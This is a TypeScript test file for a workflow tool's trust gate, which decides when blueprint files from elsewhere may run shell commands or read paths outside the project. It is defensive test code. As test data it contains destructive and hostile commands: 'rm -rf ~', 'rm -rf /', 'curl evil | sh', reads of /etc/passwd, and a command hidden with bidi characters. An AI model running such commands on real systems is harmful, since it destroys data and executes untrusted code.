import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { Operation, TrustRequest } from '@atomiton/contracts';
import { AtomitonError, defineNode } from '@atomiton/contracts';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { TestHost } from '../testing/open-host.js';
import { openTestHost } from '../testing/open-host.js';

const shell = defineNode({
  type: 'test/shell',
  version: 1,
  name: 'Shell',
  category: 'Test',
  description: '',
  inputs: [],
  outputs: [{ name: 'text', type: 'string' }],
  parameters: [
    { name: 'command', label: 'Command', type: 'string', default: '' },
    { name: 'patience', label: 'Patience', type: 'number', default: 1 },
  ],
  runtime: { language: 'python', module: 'test/echo' },
  purity: 'writes-world',
  effects: [{ kind: 'shell', shows: ['command'] }],
});
const DEFINITIONS = [shell];

let here: TestHost;
let file: string;
beforeEach(async () => {
  here = await openTestHost(undefined, DEFINITIONS);
  await mkdir(path.join(here.folder, 'project'));
  file = path.join(here.folder, 'project', 'sent.blueprint.json');
});
afterEach(() => here.close());

type Nodes = Record<string, { type: string; parameters?: Record<string, unknown>; mode?: string }>;

async function write(nodes: Nodes, edges: Record<string, string> = {}): Promise<void> {
  const document = {
    formatVersion: 1,
    id: 'sent',
    name: 'sent',
    nodes: Object.fromEntries(
      Object.entries(nodes).map(([id, node]) => [id, { typeVersion: 1, parameters: {}, ...node }]),
    ),
    edges: Object.fromEntries(Object.entries(edges).map(([to, from]) => [to, { from }])),
  };
  await writeFile(file, JSON.stringify(document));
}

async function open(): Promise<string> {
  return (await here.client.call('document.open', { path: file })).documentId;
}

function check(documentId: string, to?: string): Promise<TrustRequest> {
  return here.client.call('trust.check', to === undefined ? { documentId } : { documentId, to });
}

async function asked(documentId: string, to?: string): Promise<string[]> {
  return (await check(documentId, to)).nodes.map(({ node }) => node);
}

async function accept(documentId: string): Promise<void> {
  const { digest } = await check(documentId);
  await here.client.call('trust.accept', { documentId, digest });
}

async function startCode(documentId: string, to?: string): Promise<string> {
  try {
    await here.client.call('run.start', {
      documentId,
      ...(to === undefined ? {} : { options: { to } }),
    });
    return 'started';
  } catch (thrown) {
    return thrown instanceof AtomitonError ? thrown.data.code : String(thrown);
  }
}

let revision = 0;
async function apply(documentId: string, ...operations: Operation[]): Promise<void> {
  const done = await here.client.call('document.apply', { documentId, baseRevision: revision, operations });
  revision = done.revision;
}
beforeEach(() => {
  revision = 0;
});

const setCommand = (value: string): Operation => ({ op: 'set-parameter', id: 'sh', name: 'command', value });
const SHELL: Nodes = { sh: { type: 'test/shell', parameters: { command: 'rm -rf ~' } } };

describe('a blueprint from elsewhere', () => {
  test('is refused by run.start in the host, naming the node; accepting what was shown lets it start', async () => {
    await write(SHELL);
    const documentId = await open();
    expect(await check(documentId)).toMatchObject({
      nodes: [
        {
          node: 'sh',
          name: 'Shell',
          effects: [{ kind: 'shell', details: [{ label: 'Command', text: 'rm -rf ~', cutChars: 0 }] }],
        },
      ],
    });
    expect(await startCode(documentId)).toBe('not-trusted');
    await accept(documentId);
    expect(await startCode(documentId)).toBe('started');
  });

  test('what is accepted is what was shown: an edit in between is refused', async () => {
    await write(SHELL);
    const documentId = await open();
    const { digest } = await check(documentId);
    await apply(documentId, setCommand('curl evil | sh'));
    await expect(here.client.call('trust.accept', { documentId, digest })).rejects.toThrow(/changed since/);
    expect(await startCode(documentId)).toBe('not-trusted');
  });

  test('a run to a node asks only about what that node needs', async () => {
    await write(
      { ...SHELL, n: { type: 'core/number' }, see: { type: 'core/preview' } },
      {
        'see.value': 'n.number',
      },
    );
    const documentId = await open();
    expect(await asked(documentId, 'see')).toEqual([]);
    expect(await asked(documentId, 'sh')).toEqual(['sh']);
    expect(await startCode(documentId, 'see')).toBe('started');
  });

  test('the answer is remembered by path and digest; another path and a changed node ask again', async () => {
    await write(SHELL);
    await accept(await open());
    await here.client.call('document.close', { documentId: await open() });
    expect(await asked(await open())).toEqual([]);
    // A new host over the same data folder: the answer is in the folder.
    here = await here.restart();
    expect(await asked(await open())).toEqual([]);

    const copy = path.join(here.folder, 'copy.blueprint.json');
    await writeFile(copy, await readFile(file));
    const other = await here.client.call('document.open', { path: copy });
    expect(await asked(other.documentId)).toEqual(['sh']);

    await here.client.call('document.close', { documentId: await open() });
    await write({ sh: { type: 'test/shell', parameters: { command: 'rm -rf /' } } });
    expect(await asked(await open())).toEqual(['sh']);
  });

  test('a change of a node without effects does not ask again', async () => {
    await write({ ...SHELL, n: { type: 'core/number', parameters: { value: 1 } } });
    await accept(await open());
    await here.client.call('document.close', { documentId: await open() });
    await write({ ...SHELL, n: { type: 'core/number', parameters: { value: 2 } } });
    expect(await asked(await open())).toEqual([]);
  });

  test('a change of what feeds the command asks again', async () => {
    const nodes = (value: string): Nodes => ({
      sh: { type: 'test/shell' },
      words: { type: 'core/text', parameters: { value } },
    });
    await write(nodes('ls'), { 'sh.command': 'words.text' });
    const first = await open();
    expect((await check(first)).nodes[0]?.effects[0]?.details[0]?.text).toBe('whatever words.text gives');
    await accept(first);
    await here.client.call('document.close', { documentId: first });
    await write(nodes('rm -rf ~'), { 'sh.command': 'words.text' });
    expect(await asked(await open())).toEqual(['sh']);
  });

  test('a muted node is not asked about until it is switched on', async () => {
    await write({ sh: { ...SHELL.sh, type: 'test/shell', mode: 'muted' } });
    const documentId = await open();
    expect(await asked(documentId)).toEqual([]);
    await apply(documentId, { op: 'set-mode', id: 'sh', mode: 'active' });
    expect(await asked(documentId)).toEqual(['sh']);
  });

  test('trust is taken back from a list, also for a document that is open', async () => {
    await write(SHELL);
    const documentId = await open();
    await accept(documentId);
    const { entries } = await here.client.call('trust.list', {});
    expect(entries).toMatchObject([{ path: file, nodes: [{ node: 'sh', name: 'Shell', kinds: ['shell'] }] }]);
    await here.client.call('trust.revoke', { path: file });
    expect(await here.client.call('trust.list', {})).toEqual({ entries: [] });
    expect(await startCode(documentId)).toBe('not-trusted');
  });

  test('nothing of it hides from the one who decides: control and bidi characters are written out, long texts cut with their rest counted', async () => {
    const command = `ls\u202E\u0007${'x'.repeat(100_000)}`;
    await write({ sh: { type: 'test/shell', parameters: { command } } });
    const [node] = (await check(await open())).nodes;
    const [shown] = node?.effects[0]?.details ?? [];
    expect(shown?.text.slice(0, 22)).toBe('ls\\u{202e}\\u{0007}xxxx');
    expect(shown?.cutChars).toBe(command.length - 2000);
  });
});

describe('reads outside the folder', () => {
  const reader = (name: string): Nodes => ({ csv: { type: 'core/csv-reader', parameters: { path: name } } });

  test.each([
    ['a file beside it', 'a.csv'],
    ['one in a folder below', 'data/deep/a.csv'],
    ['a way out and back', '../project/a.csv'],
    ['a name that begins with two dots', '..a.csv'],
  ])('%s is inside', async (_name, written) => {
    await write(reader(written));
    expect(await asked(await open())).toEqual([]);
  });

  test('an absolute path, a path that climbs and a link that leads out are outside, with where they lead', async () => {
    await writeFile(path.join(here.folder, 'secret.csv'), 'a\n1\n');
    await symlink(path.join(here.folder, 'secret.csv'), path.join(here.folder, 'project', 'innocent.csv'));
    await symlink(here.folder, path.join(here.folder, 'project', 'up'));
    const secret = path.join(here.folder, 'secret.csv');
    const texts: string[] = [];
    for (const written of [
      '/etc/passwd',
      '../secret.csv',
      'innocent.csv',
      'up/secret.csv',
      'up/new/absent.csv',
    ]) {
      await write(reader(written));
      const documentId = await open();
      const [node] = (await check(documentId)).nodes;
      const [shown] = node?.effects[0]?.details ?? [];
      texts.push(shown === undefined ? 'inside' : `${shown.text} < ${shown.written ?? ''}`);
      expect(await startCode(documentId)).toBe('not-trusted');
      await here.client.call('document.close', { documentId });
    }
    expect(texts).toEqual([
      '/etc/passwd < ',
      `${secret} < ../secret.csv`,
      `${secret} < innocent.csv`,
      `${secret} < up/secret.csv`,
      `${path.join(here.folder, 'new', 'absent.csv')} < up/new/absent.csv`,
    ]);
  });

  test('a link that is turned around after it was allowed asks again', async () => {
    const link = path.join(here.folder, 'project', 'link.csv');
    await symlink('/etc/hostname', link);
    await write(reader('link.csv'));
    await accept(await open());
    await here.client.call('document.close', { documentId: await open() });
    expect(await asked(await open())).toEqual([]);
    await here.client.call('document.close', { documentId: await open() });
    await (await import('node:fs/promises')).unlink(link);
    await symlink('/etc/passwd', link);
    expect(await asked(await open())).toEqual(['csv']);
  });
});

describe('what the user makes here', () => {
  test('a document drawn here is never asked about, before and after it is saved and opened again', async () => {
    const { documentId } = await here.client.call('document.create', {});
    const node = { type: 'test/shell', typeVersion: 1, parameters: {}, mode: 'active' as const };
    await apply(documentId, { op: 'add-node', id: 'sh', node }, setCommand('make'));
    expect(await startCode(documentId)).toBe('started');
    await here.client.call('document.save', { documentId, path: file });
    await here.client.call('document.close', { documentId });
    expect(await asked(await open())).toEqual([]);
  });

  test('an edit of a trusted node is the user’s own, once saved also after opening it again', async () => {
    await write(SHELL);
    const documentId = await open();
    await accept(documentId);
    await apply(documentId, setCommand('make'));
    expect(await asked(documentId)).toEqual([]);
    await here.client.call('document.save', { documentId });
    await here.client.call('document.close', { documentId });
    expect(await asked(await open())).toEqual([]);
  });

  test('an edit of a node that was never trusted does not make it trusted, nor does saving it', async () => {
    await write(SHELL);
    const documentId = await open();
    await apply(documentId, { op: 'set-parameter', id: 'sh', name: 'patience', value: 2 });
    expect(await asked(documentId)).toEqual(['sh']);
    await here.client.call('document.save', { documentId });
    await here.client.call('document.save', { documentId, path: `${file}.json` });
    expect(await asked(documentId)).toEqual(['sh']);
    await here.client.call('document.close', { documentId });
    expect(await asked(await open())).toEqual(['sh']);
  });

  test('a path that the user chooses in a document from elsewhere is the user’s own', async () => {
    await write({ csv: { type: 'core/csv-reader', parameters: { path: '/home/sender/a.csv' } } });
    const documentId = await open();
    expect(await asked(documentId)).toEqual(['csv']);
    await apply(documentId, { op: 'set-parameter', id: 'csv', name: 'path', value: '/data/mine.csv' });
    expect(await asked(documentId)).toEqual([]);
  });

  test('a copy of a node that was never trusted is asked about as well, also when it was edited', async () => {
    await write(SHELL);
    const documentId = await open();
    const node = { type: 'test/shell', typeVersion: 1, parameters: { command: 'rm -rf ~', patience: 9 } };
    await apply(documentId, { op: 'add-node', id: 'sh_2', node: { ...node, mode: 'active' } });
    expect(await asked(documentId)).toEqual(['sh', 'sh_2']);
    // One that the user types anew is the user's own.
    const own = { ...node, parameters: { command: 'make' }, mode: 'active' as const };
    await apply(documentId, { op: 'add-node', id: 'sh_3', node: own });
    expect(await asked(documentId)).toEqual(['sh', 'sh_2']);
  });

  test('saving elsewhere, which writes the same path in another way, does not make it the user’s own', async () => {
    await write({ csv: { type: 'core/csv-reader', parameters: { path: '/etc/passwd' } } });
    const documentId = await open();
    await here.client.call('document.save', {
      documentId,
      path: path.join(here.folder, 'moved.blueprint.json'),
    });
    expect(await asked(documentId)).toEqual(['csv']);
  });

  test('what was pasted from elsewhere is asked about; a copy of what is there is not', async () => {
    const { documentId } = await here.client.call('document.create', {});
    const node = {
      type: 'test/shell',
      typeVersion: 1,
      parameters: { command: 'make' },
      mode: 'active' as const,
    };
    const foreign = { ...node, parameters: { command: 'rm -rf ~' } };
    await apply(documentId, { op: 'add-node', id: 'sh', node });
    await apply(
      documentId,
      { op: 'add-node', id: 'sh_2', node },
      { op: 'add-node', id: 'sh_3', node: foreign },
    );
    await here.client.call('trust.foreign', { documentId, nodes: ['sh_2', 'sh_3'] });
    expect(await asked(documentId)).toEqual(['sh_3']);
    // Saving does not launder it.
    await here.client.call('document.save', { documentId, path: file });
    await here.client.call('document.close', { documentId });
    expect(await asked(await open())).toEqual(['sh_3']);
  });

  test('a bundled example is not asked about', async () => {
    await mkdir(here.examplesFolder, { recursive: true });
    const example = {
      formatVersion: 1,
      id: 'e',
      name: 'e',
      nodes: { sh: { ...SHELL.sh, typeVersion: 1 } },
      edges: {},
    };
    await writeFile(path.join(here.examplesFolder, 'one.blueprint.json'), JSON.stringify(example));
    const { documentId } = await here.client.call('document.create', { example: 'one' });
    expect(await asked(documentId)).toEqual([]);
  });
});

test('a document that is replaced as a whole, by a reload or another version, is from elsewhere again', async () => {
  const { documentId, blueprint } = await here.client.call('document.create', {});
  const node = {
    type: 'test/shell',
    typeVersion: 1,
    parameters: { command: 'make' },
    mode: 'active' as const,
  };
  await apply(documentId, { op: 'add-node', id: 'sh', node });
  expect(await asked(documentId)).toEqual([]);
  await apply(documentId, { op: 'replace', blueprint: { ...blueprint, nodes: { sh: node } } });
  expect(await asked(documentId)).toEqual(['sh']);
});

describe('inside subgraphs', () => {
  const inner = { ...SHELL.sh, typeVersion: 1, mode: 'active' };
  const hidden = {
    formatVersion: 1,
    id: 'sent',
    name: 'sent',
    nodes: { box: { type: 'subgraph/outer', typeVersion: 1, parameters: {} } },
    edges: {},
    subgraphs: {
      outer: { name: 'O', nodes: { deep: { type: 'subgraph/deep', typeVersion: 1 } }, edges: {} },
      deep: { name: 'D', nodes: { sh: inner }, edges: {} },
    },
  };

  test('a node is asked about by its path, and runs when it was allowed', async () => {
    await writeFile(file, JSON.stringify(hidden));
    const documentId = await open();
    expect(await asked(documentId)).toEqual(['box/deep/sh']);
    expect(await startCode(documentId)).toBe('not-trusted');
    expect(await startCode(documentId, 'box/deep')).toBe('not-trusted');
    await accept(documentId);
    expect(await startCode(documentId)).toBe('started');
  });

  test('a node put into a subgraph, or taken out of one, is still asked about', async () => {
    await write(SHELL);
    const documentId = await open();
    await apply(
      documentId,
      { op: 'remove-node', id: 'sh' },
      {
        op: 'set-subgraph',
        id: 'mine',
        subgraph: {
          name: 'Mine',
          inputs: {},
          outputs: {},
          nodes: { sh: { ...inner, mode: 'active', typeVersion: 1, parameters: { command: 'rm -rf ~' } } },
          edges: {},
          layout: { positions: {}, groups: {}, notes: {} },
        } as never,
      },
      {
        op: 'add-node',
        id: 'mine',
        node: { type: 'subgraph/mine', typeVersion: 1, parameters: {}, mode: 'active' },
      },
    );
    expect(await asked(documentId)).toEqual(['mine/sh']);
  });
});

test('text pasted in the moment of a save is not remembered as allowed with the file', async () => {
  await write({});
  const documentId = await open();
  const parameters = { command: 'rm -rf ~' };
  const node = { type: 'test/shell', typeVersion: 1, mode: 'active' as const, parameters };
  // None of them waits for the one before, as a fast hand does it.
  await Promise.all([
    here.client.call('document.apply', {
      documentId,
      baseRevision: 0,
      operations: [{ op: 'add-node', id: 'evil', node }],
    }),
    here.client.call('trust.foreign', { documentId, nodes: ['evil'] }),
    here.client.call('document.save', { documentId }),
  ]);
  expect(await asked(documentId)).toEqual(['evil']);
  expect((await here.client.call('trust.list', {})).entries).toEqual([]);
});
